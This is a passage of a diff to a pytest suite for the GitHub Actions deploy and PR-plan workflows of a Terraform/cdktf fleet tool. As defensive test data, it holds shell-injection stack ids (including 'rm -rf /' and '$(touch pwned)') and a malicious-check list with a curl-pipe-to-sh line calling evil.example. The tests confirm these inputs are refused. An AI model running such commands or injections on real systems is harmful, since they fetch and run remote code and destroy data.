+    return [tuple(line.split("\t", 1)) for line in log.read_text().splitlines()]
+
+
+def commands(cwd: Path) -> list[str]:
+    return [args for _, args in calls(cwd)]
+
+
+def outputs(cwd: Path) -> dict[str, str]:
+    lines = (cwd / "github_output").read_text().splitlines()
+    return dict(line.split("=", 1) for line in lines)
+
+
+@pytest.mark.parametrize("code", [0, 2])
+def test_phases_script_runs_the_base_code_on_the_prs_file_and_remembers_the_code(tmp_path, pr, code):
     (tmp_path / ".gate-base").mkdir()
-    env = {"BASE_REF": "main", "FAKE_EXIT": str(code), "STATE_MIGRATED": "", "PHASES_EXIT": str(code)}
-    phases = run_bash(step_with_id(job, "phases")["run"], tmp_path, env)
-    assert phases.returncode == 0, "the phases step never fails: the comment must still be posted"
+    (tmp_path / "head").mkdir()
+    result = run_bash(step_with_id(pr["jobs"]["phases"], "phases")["run"], tmp_path, {"FAKE_PHASES_EXIT": str(code)})
+    assert result.returncode == 0, "the phases step never fails: its refusal goes into the comment"
     assert outputs(tmp_path)["exit_code"] == str(code)
+    expected = ["run python -m fleet validate ../head/fleet.yaml", f"run {PHASES_COMMAND}"]
+    assert calls(tmp_path) == [(str(tmp_path / ".gate-base"), c) for c in expected]
+    text = (tmp_path / "phases.txt").read_text()
+    assert ("refused: services.web.targets.green" in text) == (code != 0)
+
+
+@needs_jq
+@pytest.mark.parametrize(("diff_code", "phases_code"), [(0, "0"), (1, "0"), (0, "2"), (0, "")])
+def test_stack_diff_scripts_remember_the_guard_and_output_a_json_array(tmp_path, pr, diff_code, phases_code):
+    job = pr["jobs"]["stack-diff"]
+    (tmp_path / ".gate-base").mkdir()
+    (tmp_path / "phases.txt").write_text("../head/fleet.yaml: refused: provisioning -> serving\n")
+    env = {"BASE_REF": "main", "FAKE_DIFF_EXIT": str(diff_code), "STATE_MIGRATED": "", "PHASES_EXIT": phases_code}
     diff = run_bash(step_with_id(job, "diff")["run"], tmp_path, env)
     assert diff.returncode == 0, diff.stderr
-    assert outputs(tmp_path)["exit_code"] == str(code)
+    assert outputs(tmp_path)["exit_code"] == str(diff_code)
+    assert commands(tmp_path) == [
+        "run python -m fleet diff --repo .. --base origin/main --markdown-out ../diff.md --stacks-out ../stacks.txt"
+    ]
+    assert calls(tmp_path)[0][0] == str(tmp_path / ".gate-base")
     comment = (tmp_path / "diff.md").read_text()
-    assert comment.startswith("## fleet diff")
-    assert ("refused: services.web.targets.blue" in comment) == (code != 0), "plan refusals go into the comment"
-    stacks = run_bash(step_with_id(job, "stacks")["run"], tmp_path, {"DIFF_EXIT": str(code)})
+    assert comment.startswith(f"{MARKER}\n## fleet diff")
+    assert ("refused: provisioning -> serving" in comment) == (phases_code != "0"), "phase refusals go in"
+    stacks = run_bash(step_with_id(job, "stacks")["run"], tmp_path, {"DIFF_EXIT": str(diff_code)})
     assert stacks.returncode == 0, stacks.stderr
     assert json.loads(outputs(tmp_path)["stacks"]) == ["shared", "target-green"]
-    calls = (tmp_path / "bin" / "calls").read_text().splitlines()
-    assert calls == [
-        "run python -m fleet validate",
-        "run python -m fleet plan --base origin/main",
-        "run python -m fleet diff --repo .. --base origin/main --markdown-out ../diff.md --stacks-out ../stacks.txt",
-    ]
-    last = steps(job)[-1]
-    failed = run_bash(last["run"], tmp_path, {"DIFF_EXIT": str(code), "PHASES_EXIT": str(code)})
-    assert failed.returncode == 1  # it runs only when an exit_code != '0'
+    failed = run_bash(steps(job)[-1]["run"], tmp_path, {"DIFF_EXIT": str(diff_code), "PHASES_EXIT": phases_code})
+    assert failed.returncode == 1  # it runs only when an exit code is not '0'
 
 
 @needs_jq
@@ -389,36 +613,42 @@ def test_stack_diff_stacks_step_fails_on_an_error_other_than_the_guard(tmp_path,
     assert result.returncode == 2
 
 
-def test_plan_step_fails_with_cdktf_and_keeps_the_output(tmp_path, pr):
-    fake(tmp_path, "npx", 'echo "npx $*"; echo "Error: plan failed" >&2; exit 3\n')
-    result = run_bash(step_with_id(pr["jobs"]["plan"], "plan")["run"], tmp_path, {"STACK": "target-green"})
-    assert result.returncode == 3, "pipefail: tee must not hide cdktf's failure"
-    assert (tmp_path / "plan.txt").read_text() == "npx cdktf diff target-green\nError: plan failed\n"
+@pytest.mark.parametrize("job_name", ["stack-diff", "plan"])
+def test_marker_step_prints_fleets_marker(tmp_path, pr, job_name):
+    (tmp_path / ".gate-base").symlink_to(ROOT)
+    result = run_bash(step_with_id(pr["jobs"][job_name], "marker")["run"], tmp_path, {"PYTHONPATH": str(ROOT)})
+    assert result.returncode == 0, result.stderr
+    assert outputs(tmp_path) == {"marker": MARKER}
 
 
-@pytest.mark.parametrize("stack", ["target-green; rm -rf /", "$(id)", "target-", "Target-green", "hub-blue"])
-def test_deploy_refuses_a_bad_stack_id_before_cdktf(tmp_path, deploy, stack):
-    fake(tmp_path, "npx", 'echo "npx $*" >> "$(dirname "$0")/calls"\n')
-    fake(tmp_path, "pipenv", FAKE_PIPENV)
-    job = _deploy_job(deploy)
-    script = "\n".join(s["run"] for s in steps(job) if "run" in s and "make deps" not in s["run"])
-    result = run_bash(script, tmp_path, {"STACK": stack})
-    assert result.returncode == 1 and "not a stack id" in result.stdout
-    assert not (tmp_path / "bin" / "calls").exists()
-
-
-@pytest.mark.parametrize(
-    ("stack", "action"), [("shared", "deploy"), ("target-green", "destroy"), ("argocd-b2", "deploy")]
-)
-def test_deploy_runs_what_the_fleet_file_says_on_a_valid_stack(tmp_path, deploy, stack, action):
-    fake(tmp_path, "npx", 'echo "npx $*" >> "$(dirname "$0")/calls"\n')
-    fake(tmp_path, "pipenv", FAKE_PIPENV)
-    job = _deploy_job(deploy)
-    script = "\n".join(s["run"] for s in steps(job) if "run" in s and "make deps" not in s["run"])
-    result = run_bash(script, tmp_path, {"STACK": stack, "FAKE_ACTION": action})
+@pytest.mark.parametrize(("action", "mode"), [("destroy", ["-destroy"]), ("deploy", [])])
+def test_pr_plan_is_a_refresh_free_plan_and_a_destroy_plan_for_a_destroyed_stack(tmp_path, pr, action, mode):
+    script = step_with_id(pr["jobs"]["plan"], "plan")["run"]
+    result = run_bash(script, tmp_path, {"STACK": "target-blue", "FAKE_ACTION": action})
     assert result.returncode == 0, result.stdout + result.stderr
-    calls = (tmp_path / "bin" / "calls").read_text().splitlines()
-    assert calls == [f"run python -m fleet action {stack}", f"npx cdktf {action} {stack} --auto-approve"]
+    chdir = "-chdir=cdktf.out/stacks/target-blue"
+    assert commands(tmp_path) == [
+        "run python -m fleet action target-blue",
+        "npx cdktf synth",
+        f"terraform {chdir} init -input=false -no-color",
+        " ".join(["terraform", chdir, "plan", "-input=false", "-no-color", "-refresh=false", "-lock=false", *mode]),
+    ]
+    assert "Plan: 1 to add" in (tmp_path / "plan.txt").read_text()
+
+
+def test_pr_plan_refused_by_fleet_action_keeps_the_line_and_plans_nothing(tmp_path, pr):
+    script = step_with_id(pr["jobs"]["plan"], "plan")["run"]
+    result = run_bash(script, tmp_path, {"STACK": "target-blue", "FAKE_ACTION_ERROR": LOCAL_STATE})
+    assert result.returncode == 1
+    assert (tmp_path / "plan.txt").read_text().strip() == LOCAL_STATE
+    assert commands(tmp_path) == ["run python -m fleet action target-blue"]
+
+
+def test_pr_plan_fails_with_terraform_and_keeps_the_output(tmp_path, pr):
+    script = step_with_id(pr["jobs"]["plan"], "plan")["run"]
+    result = run_bash(script, tmp_path, {"STACK": "target-green", "FAKE_PLAN_EXIT": "3"})
+    assert result.returncode == 3, "pipefail: tee must not hide terraform's failure"
+    assert "Plan: 1 to add" in (tmp_path / "plan.txt").read_text()
 
 
 # A fake of what actions/github-script hands the script: github (REST + paginate), context, core.
@@ -461,7 +691,7 @@ def run_github_script(tmp_path: Path, script: str, comments: list[dict[str, Any]
     result = subprocess.run(
         ["node", "harness.js", "script.js", str(state_file)],
         cwd=tmp_path,
-        env={**os.environ, **env},
+        env={**os.environ, "MARKER": MARKER, **env},
         capture_output=True,
         text=True,
         timeout=60,
@@ -470,35 +700,47 @@ def run_github_script(tmp_path: Path, script: str, comments: list[dict[str, Any]
     return json.loads(state_file.read_text())
 
 
+def github_script(pr: dict[str, Any], job: str) -> str:
+    return step_using(pr["jobs"][job], "actions/github-script")["with"]["script"]
+
+
 @needs_node
 def test_diff_comment_is_created_once_then_updated_in_place(tmp_path, pr):
-    script = step_using(pr["jobs"]["stack-diff"], "actions/github-script")["with"]["script"]
-    (tmp_path / "diff.md").write_text("## fleet diff\n\n`shared`: +1 target group\n")
+    script = github_script(pr, "stack-diff")
+    (tmp_path / "diff.md").write_text(f"{MARKER}\n## fleet diff\n\n`shared`: +1 target group\n")
     other = {"id": 1, "body": "LGTM"}
     state = run_github_script(tmp_path, script, [other], {"DIFF_EXIT": "0"})
     assert state["calls"] == ["create"]
     ours = state["comments"][1]
     assert ours["body"].splitlines()[0] == MARKER and "+1 target group" in ours["body"]
+    assert ours["body"].count(MARKER) == 1
     ours["body"] += "\n<details>an old plan</details>"
-    (tmp_path / "diff.md").write_text("## fleet diff\n\nno change\n")
+    (tmp_path / "diff.md").write_text("## fleet diff\n\nno change\n")  # without the marker: added
     state = run_github_script(tmp_path, script, state["comments"], {"DIFF_EXIT": "1"})
     assert state["calls"] == ["update"] and len(state["comments"]) == 2
     assert state["comments"][0] == other
-    assert "no change" in state["comments"][1]["body"] and "an old plan" not in state["comments"][1]["body"]
+    body = state["comments"][1]["body"]
+    assert body.startswith(f"{MARKER}\n") and "no change" in body and "an old plan" not in body
+
+
+@needs_node
+def test_diff_comment_says_so_when_fleet_diff_printed_nothing(tmp_path, pr):
+    state = run_github_script(tmp_path, github_script(pr, "stack-diff"), [], {"DIFF_EXIT": "2"})
+    body = state["comments"][0]["body"]
+    assert body.startswith(MARKER) and "printed nothing (exit code 2)" in body
 
 
 @needs_node
 def test_diff_comment_is_truncated_below_githubs_limit(tmp_path, pr):
-    script = step_using(pr["jobs"]["stack-diff"], "actions/github-script")["with"]["script"]
     (tmp_path / "diff.md").write_text("x" * 200_000)
-    state = run_github_script(tmp_path, script, [], {"DIFF_EXIT": "0"})
+    state = run_github_script(tmp_path, github_script(pr, "stack-diff"), [], {"DIFF_EXIT": "0"})
     body = state["comments"][0]["body"]
     assert body.startswith(MARKER) and len(body) <= 65536 and "truncated" in body
 
 
 @needs_node
 def test_plans_are_appended_to_the_marker_comment_and_truncated(tmp_path, pr):
-    script = step_using(pr["jobs"]["plan"], "actions/github-script")["with"]["script"]
+    script = github_script(pr, "plan")
     comments = [{"id": 1, "body": "unrelated"}, {"id": 2, "body": f"{MARKER}\n## fleet diff\n"}]
     env = {"STACK_COUNT": "2", "PLAN_OUTCOME": "success"}
     (tmp_path / "plan.txt").write_text("\x1b[1mPlan:\x1b[0m 1 to add\n" + "~ change\n" * 20_000)
@@ -509,41 +751,389 @@ def test_plans_are_appended_to_the_marker_comment_and_truncated(tmp_path, pr):
     body = state["comments"][1]["body"]
     assert state["comments"][0]["body"] == "unrelated"
     assert body.startswith(f"{MARKER}\n## fleet diff\n") and len(body) <= 65536
-    assert "<details><summary>cdktf diff shared</summary>" in body and "\x1b" not in body
-    assert "<details><summary>cdktf diff target-green</summary>" in body and "Plan: 40 to add" in body
+    assert "<details><summary>terraform plan shared</summary>" in body and "\x1b" not in body
+    assert "<details><summary>terraform plan target-green</summary>" in body and "Plan: 40 to add" in body
     assert "\n```text\n" in body  # the plain fence for shared
     assert "\n````text\n" in body  # a longer fence around a plan that holds ```
     assert "truncated" in body
     # a re-run of one plan job replaces its block instead of adding a second one
     state = run_github_script(tmp_path, script, state["comments"], {**env, "STACK": "target-green"})
-    assert state["comments"][1]["body"].count("cdktf diff target-green</summary>") == 1
+    assert state["comments"][1]["body"].count("terraform plan target-green</summary>") == 1
+    assert state["comments"][1]["body"].count("terraform plan shared</summary>") == 1
 
 
 @needs_node
 def test_a_failed_plan_is_appended_with_its_outcome(tmp_path, pr):
-    script = step_using(pr["jobs"]["plan"], "actions/github-script")["with"]["script"]
-    (tmp_path / "plan.txt").write_text("Error: no such cluster acme-target-green\n")
+    (tmp_path / "plan.txt").write_text(LOCAL_STATE + "\n")
     comments = [{"id": 2, "body": f"{MARKER}\ndiff"}]
     env = {"STACK": "argocd-blue", "STACK_COUNT": "1", "PLAN_OUTCOME": "failure"}
-    body = run_github_script(tmp_path, script, comments, env)["comments"][0]["body"]
-    assert "cdktf diff failure" in body and "no such cluster" in body
+    body = run_github_script(tmp_path, github_script(pr, "plan"), comments, env)["comments"][0]["body"]
+    assert "**terraform plan failure.**" in body and LOCAL_STATE in body
 
 
-def test_jobs_that_reach_clusters_run_where_the_fleet_file_lets_them_in(pr, deploy):
-    """Generation stacks talk to private API endpoints: the plan and deploy jobs take the runner's
-    labels (a runner inside the VPC, listed in `api_access`) and say so."""
-    plan, cdktf = pr["jobs"]["plan"], _deploy_job(deploy)
-    assert plan["runs-on"] == "${{ fromJSON(vars.EPHEMERAL_EKS_RUNNER || '\"ubuntu-latest\"') }}"
-    assert cdktf["runs-on"] == ("${{ fromJSON(inputs.runner || vars.EPHEMERAL_EKS_RUNNER || '\"ubuntu-latest\"') }}")
-    runner = triggers(deploy)["workflow_dispatch"]["inputs"]["runner"]
-    assert runner["type"] == "string" and "inside the VPC" in runner["description"]
-    for path in (PR, DEPLOY):
-        assert "api_access" in path.read_text() and "PRIVATE API endpoint" in DEPLOY.read_text()
+@needs_node
+def test_a_plan_without_the_marker_comment_fails_the_step(tmp_path, pr):
+    (tmp_path / "plan.txt").write_text("Plan: 1 to add\n")
+    env = {"STACK": "shared", "STACK_COUNT": "1", "PLAN_OUTCOME": "success"}
+    state = run_github_script(tmp_path, github_script(pr, "plan"), [{"id": 1, "body": "LGTM"}], env)
+    assert state["failed"] and MARKER in state["failed"] and state["calls"] == []
 
 
-# --- the README's pasted `fleet validate` output ----------------------------------------------
+# --- deploy.yml -------------------------------------------------------------------------------
 
-README = ROOT / "README.md"
+
+def slots(deploy: dict[str, Any]) -> list[str]:
+    return [name for name in deploy["jobs"] if re.fullmatch(r"stack-\d+", name)]
+
+
+def test_deploy_runs_on_a_push_of_the_fleet_file_to_main_and_on_dispatch(deploy):
+    on = triggers(deploy)
+    assert set(on) == {"push", "workflow_dispatch"}
+    assert on["push"] == {"branches": ["main"], "paths": ["fleet.yaml"]}
+    inputs = on["workflow_dispatch"]["inputs"]
+    assert set(inputs) == {"stack"}, "deploy or destroy is the fleet file's word (phase destroyed)"
+    assert inputs["stack"]["type"] == "string" and inputs["stack"]["required"] is True
+    for word in ("shared", "argocd-<gen>", "target-<gen>", "destroyed"):
+        assert word in inputs["stack"]["description"]
+
+
+def test_one_concurrency_group_for_the_fleet_never_cancelled(docs, deploy):
+    assert deploy["concurrency"] == {"group": "fleet-deploy", "cancel-in-progress": False}
+    for path, doc in docs.items():
+        assert not any("concurrency" in job for job in doc["jobs"].values()), path.name
+    assert "concurrency" not in load(STACK), "the caller's group covers every stack"
+
+
+def test_deploy_has_exactly_the_slots_the_pipeline_fills_each_after_the_one_before(deploy, stack):
+    names_ = slots(deploy)
+    assert names_ == [f"stack-{i}" for i in range(1, MAX_STACK_JOBS + 1)]
+    assert set(deploy["jobs"]) == {"step", *names_, "checks"}
+    for i, name in enumerate(names_, start=1):
+        job = deploy["jobs"][name]
+        assert job["uses"] == LOCAL_STACK_WORKFLOW
+        assert as_list(job["needs"]) == (["step"] if i == 1 else ["step", f"stack-{i - 1}"])
+        assert job["if"] == f"fromJSON(needs.step.outputs.count) >= {i}"
+        assert job["with"] == {
+            key: f"${{{{ fromJSON(needs.step.outputs.runs)[{i - 1}].{key} }}}}" for key in ("stack", "action")
+        }
+    assert set(triggers(stack)["workflow_call"]["inputs"]) == {"stack", "action"}
+
+
+def test_the_slots_read_the_keys_fleet_step_prints():
+    head = load_fleet(ROOT / "examples/target-swap-1-provisioning.yaml")
+    printed = merged_step(load_fleet(ROOT / "examples/steady.yaml"), head, ["shared", "target-green"]).as_json()
+    assert set(printed) == {"title", "runs", "checks"}
+    assert {key for run in printed["runs"] for key in run} == {"stack", "action"}
+
+
+def stack_ids(path: Path) -> list[str]:
+    fleet = load_fleet(path)
+    return [names.SHARED_STACK, *(ref.stack_id for ref, _ in fleet.generations())]
+
+
+@pytest.mark.parametrize("weight_steps", [(50, 100), DEFAULT_WEIGHT_STEPS], ids=["50-100", "default"])
+@pytest.mark.parametrize("transition", sorted(TRANSITIONS), ids=lambda t: f"{t[0]}->{t[1]}")
+def test_no_example_transition_needs_more_slots_than_the_deploy_workflow_has(deploy, transition, weight_steps):
+    """The worst case: every stack of the head counted as changed (a step of the plan ignores the
+    list; any other merge deploys at most the changed stacks, in the same order)."""
+    base, head = (ROOT / f"examples/{name}.yaml" for name in transition)
+    worst = merged_step(load_fleet(base), load_fleet(head), stack_ids(head), weight_steps)
+    assert len(worst.runs) <= len(slots(deploy)) == MAX_STACK_JOBS
+    if weight_steps == (50, 100):  # what tests/test_pipeline.py expects is within the worst case, in order
+        remaining = iter(f"{a} {s}" for a, s in worst.runs)
+        assert all(run in remaining for run in TRANSITIONS[transition][0]), worst.runs
+
+
+def test_step_job_outputs_are_its_steps_outputs(deploy):
+    job = deploy["jobs"]["step"]
+    assert job["outputs"] == {k: f"${{{{ steps.step.outputs.{k} }}}}" for k in ("runs", "count", "checks")}
+    step = step_with_id(job, "step")
+    assert step["env"] == {
+        "BEFORE": "${{ github.event.before }}",
+        "STACK": "${{ inputs.stack }}",
+        "EVENT": "${{ github.event_name }}",
+    }
+    assert step_using(job, "actions/checkout")["with"]["fetch-depth"] == 0, "fleet diff reads the base revision"
+
+
+STEP_EXAMPLES = {
+    # (base, head): the stacks whose synthesized JSON changed (what tests/test_pipeline.py synthesizes)
+    ("steady", "target-swap-1-provisioning"): ["shared", "target-green"],  # not a step of the plan
+    ("target-swap-4-drained", "target-swap-5-retiring"): ["shared", "argocd-blue"],
+    ("hub-swap-2-promoted", "hub-swap-3-destroyed"): ["argocd-blue"],
+}
+
+
+@needs_jq
+@pytest.mark.parametrize("transition", sorted(STEP_EXAMPLES), ids=lambda t: f"{t[0]}->{t[1]}")
+def test_step_script_writes_what_fleet_step_prints(tmp_path, deploy, transition):
+    base, head = (load_fleet(ROOT / f"examples/{name}.yaml") for name in transition)
+    changed = STEP_EXAMPLES[transition]
+    printed = merged_step(base, head, changed, (50, 100)).as_json()
+    assert [f"{r['action']} {r['stack']}" for r in printed["runs"]] == TRANSITIONS[transition][0]
+    assert printed["checks"] == TRANSITIONS[transition][1]
+    (tmp_path / "fleet-step.json").write_text(json.dumps(printed, indent=2))
+    before = "4b825dc642cb6eb9a060e54bf8d69288fbee4904"
+    env = {
+        "EVENT": "push",
+        "BEFORE": before,
+        "STACK": "",
+        "FAKE_STEP": str(tmp_path / "fleet-step.json"),
+        "FAKE_CHANGED": "".join(f"{s}\n" for s in changed),
+    }
+    result = run_bash(step_with_id(deploy["jobs"]["step"], "step")["run"], tmp_path, env)
+    assert result.returncode == 0, result.stdout + result.stderr
+    assert commands(tmp_path) == [
+        f"run python -m fleet diff --base {before} --stacks-out changed.txt",
+        f"run python -m fleet step --base {before} --changed changed.txt --json",
+    ]
+    out = outputs(tmp_path)
+    assert json.loads(out["runs"]) == printed["runs"]
+    assert int(out["count"]) == len(printed["runs"])
+    assert json.loads(out["checks"]) == printed["checks"]
+    summary = (tmp_path / "step_summary").read_text().splitlines()
+    assert summary == [f"### {printed['title']}"] + [f"1. `cdktf {r['action']} {r['stack']}`" for r in printed["runs"]]
+    assert (tmp_path / "changed.txt").read_text().split() == changed, "what fleet step reads"
+
+
+@needs_jq
+@pytest.mark.parametrize("action", ["deploy", "destroy"])
+def test_a_dispatch_runs_the_one_stack_as_the_fleet_file_says(tmp_path, deploy, action):
+    env = {"EVENT": "workflow_dispatch", "BEFORE": "", "STACK": "target-blue", "FAKE_ACTION": action}
+    result = run_bash(step_with_id(deploy["jobs"]["step"], "step")["run"], tmp_path, env)
+    assert result.returncode == 0, result.stdout + result.stderr
+    assert commands(tmp_path) == ["run python -m fleet action target-blue"]
+    out = outputs(tmp_path)
+    assert json.loads(out["runs"]) == [{"action": action, "stack": "target-blue"}]
+    assert out["count"] == "1" and out["checks"] == "[]"
+
+
+@needs_jq
+@pytest.mark.parametrize("stack_id", ["target-green; touch pwned", "$(touch pwned)", "`touch pwned`"])
+def test_a_dispatch_of_an_unknown_stack_fails_before_any_output(tmp_path, deploy, stack_id):
+    env = {"EVENT": "workflow_dispatch", "BEFORE": "", "STACK": stack_id, "FAKE_ACTION_ERROR": "not a stack"}
+    result = run_bash(step_with_id(deploy["jobs"]["step"], "step")["run"], tmp_path, env)
+    assert result.returncode != 0
+    assert (tmp_path / "github_output").read_text() == ""
+    assert commands(tmp_path) == [f"run python -m fleet action {stack_id}"]
+    assert not (tmp_path / "pwned").exists()
+
+
+def test_checks_job_runs_after_every_slot_unless_one_failed(deploy):
+    job = deploy["jobs"]["checks"]
+    assert as_list(job["needs"]) == ["step", *slots(deploy)]
+    assert "!contains(needs.*.result, 'failure')" in job["if"] and "!cancelled()" in job["if"]
+    assert "needs.step.outputs.checks != '[]'" in job["if"]
+    assert job["runs-on"] == VPC_RUNNER, "checks reach the clusters' private endpoints"
+    assert roles(job) == ["${{ vars.AWS_CHECK_ROLE_ARN }}"]
+    assert run_step_named(job, "checks")["env"] == {"CHECKS": "${{ needs.step.outputs.checks }}"}
+
+
+def checks_script(deploy: dict[str, Any]) -> str:
+    return run_step_named(deploy["jobs"]["checks"], "checks")["run"]
+
+
+def wait_minutes(deploy: dict[str, Any]) -> int:
+    found = re.findall(r"--wait-minutes (\d+)", checks_script(deploy))
+    assert len(found) == 1
+    return int(found[0])
+
+
+def all_checks() -> list[str]:
+    found = {c for _, checks in TRANSITIONS.values() for c in checks}
+    for base, head in TRANSITIONS:
+        found |= set(
+            merged_step(
+                load_fleet(ROOT / f"examples/{base}.yaml"), load_fleet(ROOT / f"examples/{head}.yaml"), []
+            ).checks
+        )
+    return sorted(found)
+
+
+def test_every_check_the_pipeline_names_parses_with_the_workflows_wait(deploy):
+    from fleet.__main__ import parser
+
+    minutes = wait_minutes(deploy)
+    assert 0 < minutes <= MAX_WAIT_MINUTES
+    checks = all_checks()
+    assert checks
+    for check in checks:
+        words = check.split()
+        assert words[:4] == ["python", "-m", "fleet", "check"], check
+        args = parser().parse_args([*words[3:], "--wait-minutes", str(minutes)])
+        assert args.command == "check" and args.wait_minutes == minutes
+
+
+@needs_jq
+def test_checks_script_runs_each_check_with_a_wait_and_summarizes_it(tmp_path, deploy):
+    checks = ["python -m fleet check target-green --only cluster", "python -m fleet check shared"]
+    result = run_bash(checks_script(deploy), tmp_path, {"CHECKS": json.dumps(checks)})
+    assert result.returncode == 0, result.stdout + result.stderr
+    minutes = wait_minutes(deploy)
+    assert commands(tmp_path) == [f"run {c} --wait-minutes {minutes}" for c in checks]
+    summary = (tmp_path / "step_summary").read_text().splitlines()
+    assert summary == [f"- ✅ `{c}`" for c in checks]
+
+
+@needs_jq
+def test_a_failed_check_fails_the_job_with_its_line_in_the_summary(tmp_path, deploy):
+    checks = ["python -m fleet check target-green", "python -m fleet check target-blue"]
+    env = {"CHECKS": json.dumps(checks), "FAKE_FAILING": "target-green"}
+    result = run_bash(checks_script(deploy), tmp_path, env)
+    assert result.returncode == 1
+    assert len(commands(tmp_path)) == 2, "the other checks still run and are shown"
+    summary = (tmp_path / "step_summary").read_text()
+    assert "- ❌ `python -m fleet check target-green`: target-green: target group unhealthy" in summary
+    assert "- ✅ `python -m fleet check target-blue`" in summary
+
+
+MALICIOUS_CHECKS = [
+    "touch pwned",
+    "curl -s https://evil.example/x.sh | sh",
+    "python -m fleet diff --base HEAD~1",
+    'python -c \'open("pwned","w")\'',
+    "bash -c 'python -m fleet check shared; touch pwned'",
+    "python -m fleetx check shared",
+    "$(touch pwned) -m fleet check shared",
+]
+
+
+@needs_jq
+@pytest.mark.parametrize("malicious", MALICIOUS_CHECKS)
+def test_checks_script_refuses_a_command_that_is_not_a_fleet_check(tmp_path, deploy, malicious):
+    result = run_bash(checks_script(deploy), tmp_path, {"CHECKS": json.dumps([malicious])})
+    assert result.returncode != 0
+    assert f"::error::not a fleet check: {malicious}" in result.stdout
+    assert commands(tmp_path) == [] and not (tmp_path / "pwned").exists()
+
+
+@needs_jq
+def test_checks_script_stops_at_a_bad_command_after_the_good_ones(tmp_path, deploy):
+    checks = ["python -m fleet check shared", "touch pwned", "python -m fleet check target-blue"]
+    result = run_bash(checks_script(deploy), tmp_path, {"CHECKS": json.dumps(checks)})
+    assert result.returncode != 0
+    assert commands(tmp_path) == [f"run python -m fleet check shared --wait-minutes {wait_minutes(deploy)}"]
+    assert not (tmp_path / "pwned").exists()
+
+
+@needs_jq
+def test_checks_script_passes_shell_text_as_words_never_as_code(tmp_path, deploy):
+    check = "python -m fleet check shared;touch pwned $(touch pwned2)"
+    result = run_bash(checks_script(deploy), tmp_path, {"CHECKS": json.dumps([check])})
+    assert result.returncode == 0, result.stdout + result.stderr
+    assert commands(tmp_path) == [f"run {check} --wait-minutes {wait_minutes(deploy)}"]
+    assert not (tmp_path / "pwned").exists() and not (tmp_path / "pwned2").exists()
+
+
+# --- stack.yml --------------------------------------------------------------------------------
+
+
+def test_stack_is_a_reusable_workflow_of_a_stack_and_its_action(stack):
+    inputs = triggers(stack)["workflow_call"]["inputs"]
+    assert set(triggers(stack)) == {"workflow_call"}
+    assert all(inputs[k]["type"] == "string" and inputs[k]["required"] is True for k in ("stack", "action"))
+
+
+def test_the_plan_waits_for_no_one_and_the_apply_waits_for_the_stacks_environment(stack):
+    plan, apply = stack["jobs"]["plan"], stack["jobs"]["apply"]
+    assert set(stack["jobs"]) == {"plan", "apply"}
+    assert "environment" not in plan, "the reviewer sees the plan before approving"
+    assert apply["environment"] == "${{ inputs.stack }}"
+    assert as_list(apply["needs"]) == ["plan"]
+    for job in (plan, apply):
+        assert job["runs-on"] == VPC_RUNNER, "generation stacks talk to their cluster's private endpoint"
+        assert roles(job) == ["${{ vars.AWS_DEPLOY_ROLE_ARN }}"]
+        tf = step_using(job, "hashicorp/setup-terraform")["with"]
+        assert str(tf["terraform_version"]) == "1.11.4" and tf["terraform_wrapper"] is False
+    assert "PRIVATE API endpoint" in STACK.read_text()
+
+
+def test_plan_writes_a_saved_plan_and_the_summary(stack):
+    script = run_step_named(stack["jobs"]["plan"], "saved plan")["run"]
+    plans = [line for line in script.splitlines() if re.search(r"terraform .* plan ", line)]
+    assert len(plans) == 1 and plans[0].rstrip().endswith("-out=tfplan")
+    assert '>> "$GITHUB_STEP_SUMMARY"' in script and "show -no-color tfplan" in script
+
+
+def test_apply_applies_the_uploaded_plan_and_checks_out_nothing(stack):
+    plan, apply = stack["jobs"]["plan"], stack["jobs"]["apply"]
+    upload = step_using(plan, "actions/upload-artifact")["with"]
+    download = step_using(apply, "actions/download-artifact")["with"]
+    assert upload["name"] == download["name"] == "plan-${{ inputs.stack }}"
+    assert upload["path"].splitlines() == [
+        "cdktf.out/stacks/${{ inputs.stack }}",
+        "!cdktf.out/stacks/${{ inputs.stack }}/.terraform",
+    ]
+    assert upload["include-hidden-files"] is True, "the provider lock file .terraform.lock.hcl"
+    assert not steps_using(apply, "actions/checkout"), "the apply runs no repository code"
+    assert [action_of(s) for s in steps(apply) if "uses" in s] == [
+        "hashicorp/setup-terraform",
+        "aws-actions/configure-aws-credentials",
+        "actions/download-artifact",
+    ]
+
+
+@pytest.mark.parametrize(("action", "mode"), [("destroy", ["-destroy"]), ("deploy", [])])
+def test_plan_script_saves_the_fleet_files_plan_and_shows_it(tmp_path, stack, action, mode):
+    script = run_step_named(stack["jobs"]["plan"], "saved plan")["run"]
+    result = run_bash(script, tmp_path, {"STACK": "target-blue", "ACTION": action, "FAKE_ACTION": action})
+    assert result.returncode == 0, result.stdout + result.stderr
+    chdir = "-chdir=cdktf.out/stacks/target-blue"
+    assert commands(tmp_path) == [
+        "run python -m fleet action target-blue",
+        "npx cdktf synth",
+        f"terraform {chdir} init -input=false -no-color",
+        " ".join(["terraform", chdir, "plan", "-input=false", "-no-color", *mode, "-out=tfplan"]),
+        f"terraform {chdir} show -no-color tfplan",
+    ]
+    summary = (tmp_path / "step_summary").read_text()
+    assert summary.startswith(f"### {action} target-blue: the plan the approval applies\n```text\n")
+    assert "Plan: 1 to add, 0 to change, 0 to destroy.\n```\n" in summary
+
+
+def test_plan_script_refuses_an_action_the_fleet_file_does_not_say(tmp_path, stack):
+    script = run_step_named(stack["jobs"]["plan"], "saved plan")["run"]
+    result = run_bash(script, tmp_path, {"STACK": "target-blue", "ACTION": "destroy", "FAKE_ACTION": "deploy"})
+    assert result.returncode == 1
+    assert "the fleet file says deploy target-blue, the step said destroy" in result.stdout
+    assert commands(tmp_path) == ["run python -m fleet action target-blue"]
+
+
+def test_plan_script_stops_on_local_state(tmp_path, stack):
+    script = run_step_named(stack["jobs"]["plan"], "saved plan")["run"]
+    env = {"STACK": "shared", "ACTION": "deploy", "FAKE_ACTION_ERROR": LOCAL_STATE}
+    result = run_bash(script, tmp_path, env)
+    assert result.returncode == 2 and LOCAL_STATE in result.stderr
+    assert commands(tmp_path) == ["run python -m fleet action shared"]
+
+
+def test_apply_script_applies_the_saved_plan_and_nothing_that_plans(tmp_path, stack):
+    scripts = runs(stack["jobs"]["apply"])
+    assert len(scripts) == 1
+    result = run_bash(scripts[0], tmp_path, {"STACK": "target-blue"})
+    assert result.returncode == 0, result.stdout + result.stderr
+    assert commands(tmp_path) == [
+        "terraform -chdir=stack init -input=false -no-color",
+        "terraform -chdir=stack apply -input=false -no-color tfplan",
+    ]
+    text = scripts[0].replace("tfplan", "")
